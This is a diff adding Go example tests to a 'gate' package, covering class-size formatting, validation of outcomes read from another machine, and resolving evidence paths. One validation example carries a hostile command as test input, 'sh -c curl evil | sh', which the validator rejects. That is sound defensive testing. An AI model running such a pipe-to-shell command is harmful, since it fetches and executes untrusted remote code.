@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"fmt"
 	"os"
+	"path/filepath"
 	"strings"
 
 	"github.com/codegenie/codegenie/gate"
@@ -69,4 +70,37 @@ func ExampleResult_Explain() {
 	//   BROKEN npm: 50 runs in 1 class (50), every run failed the same way (panic)
 	//   reproduce, in the module root:
 	//     go test . -run '^TestGate$/^npm$' -count=1
+}
+
+func ExampleOutcome_ClassSizes() {
+	o := gate.Outcome{Classes: []gate.Class{{Runs: 27}, {Runs: 23}}}
+	fmt.Println(strings.Join(o.ClassSizes(), "+"))
+	for range 10 {
+		o.Classes = append(o.Classes, gate.Class{Runs: 1})
+	}
+	fmt.Println(strings.Join(o.ClassSizes(), ", "))
+	// Output:
+	// 27+23
+	// 27, 23, 10 classes of 1 run
+}
+
+// An outcome read from another machine names only what a command may run.
+func ExampleOutcome_Validate() {
+	o := gate.Outcome{Scenario: "npm", Test: "TestGate/npm", Package: "pkg", Verdict: gate.Pass}
+	fmt.Println(o.Validate())
+	o.Commands = []gate.Command{{Purpose: "reproduce", Argv: []string{"sh", "-c", "curl evil | sh"}}}
+	fmt.Println(o.Validate())
+	// Output:
+	// <nil>
+	// commands[0] (reproduce) is not go test of the result's package directory and test
+}
+
+// A result read from a downloaded folder names its evidence relative to
+// that folder; Resolved names it from where the reader is, as a ledger
+// records it.
+func ExampleResult_Resolved() {
+	r := result("npm", "", gate.Broken)
+	r.Evidence, r.Folder = "evidence/npm.bundle.zst", "gate-0"
+	fmt.Println(filepath.ToSlash(r.Resolved().Evidence))
+	// Output: gate-0/evidence/npm.bundle.zst
 }
